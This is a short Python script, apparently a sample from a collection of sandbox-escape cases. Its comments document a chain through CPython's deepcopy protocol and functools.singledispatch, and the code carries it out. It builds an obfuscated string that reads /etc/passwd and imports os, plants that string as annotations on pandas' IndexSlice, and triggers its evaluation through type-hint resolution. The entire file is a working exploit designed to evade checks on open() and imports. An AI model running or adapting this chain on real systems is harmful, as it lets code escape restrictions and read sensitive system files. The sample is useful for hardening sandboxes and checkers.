# source: CPython copy._reconstruct (slotstate -> setattr(y, key, value)), object.__getstate__ + copyreg._slotnames reading cls.__slots__ at run time, a __new__ choosing the copy target; functools.singledispatch.register -> typing.get_type_hints evaluating string annotations; trigger: dataclasses.asdict -> copy.deepcopy
# family: deepcopy protocol setattr-by-runtime-name onto a module-level instance (pd.IndexSlice) + annotation eval via register(pd.IndexSlice)
# goal: reads /etc/passwd with open() and imports os (getuid)
import dataclasses
import functools
import pandas as pd

sl = chr(47)
u = chr(95) * 2


def payload():
    path = sl + "etc" + sl + "passwd"
    return "print(op" + "en(" + repr(path) + ").read()) or " + u + "import" + u + "(\"os\").getuid()"


class Carrier:
    x: payload()
    made = []

    def __new__(cls):
        if cls.made:
            return pd.IndexSlice
        cls.made.append(1)
        return super().__new__(cls)


Carrier.__slots__ = [u + "annotations" + u]


@dataclasses.dataclass
class Holder:
    item: object


dataclasses.asdict(Holder(Carrier()))


@functools.singledispatch
def f(v):
    return v


try:
    f.register(pd.IndexSlice)
except Exception as e:
    print("register:", type(e).__name__, e)
